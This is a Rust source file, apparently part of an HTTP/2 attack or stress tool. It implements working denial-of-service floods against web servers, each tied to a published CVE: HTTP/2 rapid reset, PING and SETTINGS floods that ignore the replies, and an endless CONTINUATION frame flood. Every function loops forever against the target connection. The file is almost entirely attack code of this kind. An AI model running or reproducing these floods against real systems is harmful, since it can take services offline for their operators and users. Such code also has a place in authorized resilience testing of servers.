//! Frames of HTTP/2 that cost the caller little.

use std::io;

use crate::{
    frames::{
        CONTINUATION, END_HEADERS, END_STREAM, HEADERS, MAX_CONCURRENT_STREAMS, PING, RST_STREAM,
        frame, get, header, settings as settings_frame,
    },
    front::Front,
    http2::Http2,
};

/// So many are sent at once.
const AT_ONCE: usize = 100;
/// RFC 9113, section 7.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// CVE-2023-44487.
pub(super) async fn rapid_reset(front: Front) -> io::Result<()> {
    let mut connection = Http2::open(&front).await?;
    loop {
        let mut bytes = Vec::new();
        for _ in 0..AT_ONCE {
            let stream = connection.next_stream();
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &get()));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        }
        connection.send(&bytes).await?;
    }
}

/// CVE-2019-9512: the answers are not read.
pub(super) async fn pings(front: Front) -> io::Result<()> {
    again_and_again(front, &frame(PING, 0, 0, &[7; 8])).await
}

/// CVE-2019-9515: the acknowledgements are not read.
pub(super) async fn settings(front: Front) -> io::Result<()> {
    again_and_again(front, &settings_frame(&[(MAX_CONCURRENT_STREAMS, 100)])).await
}

async fn again_and_again(front: Front, frame: &[u8]) -> io::Result<()> {
    let mut connection = Http2::open(&front).await?;
    connection.turn_deaf();
    let bytes = frame.repeat(AT_ONCE);
    loop {
        connection.send(&bytes).await?;
    }
}

/// CVE-2023-45288: one header, then frames without end.
pub(super) async fn continuations(front: Front) -> io::Result<()> {
    let mut connection = Http2::open(&front).await?;
    let stream = connection.next_stream();
    connection.send(&frame(HEADERS, 0, stream, &get())).await?;
    let mut bytes = frame(CONTINUATION, 0, stream, &header("x", "a"));
    bytes.extend(frame(CONTINUATION, 0, stream, &[]).repeat(AT_ONCE));
    loop {
        connection.send(&bytes).await?;
    }
}
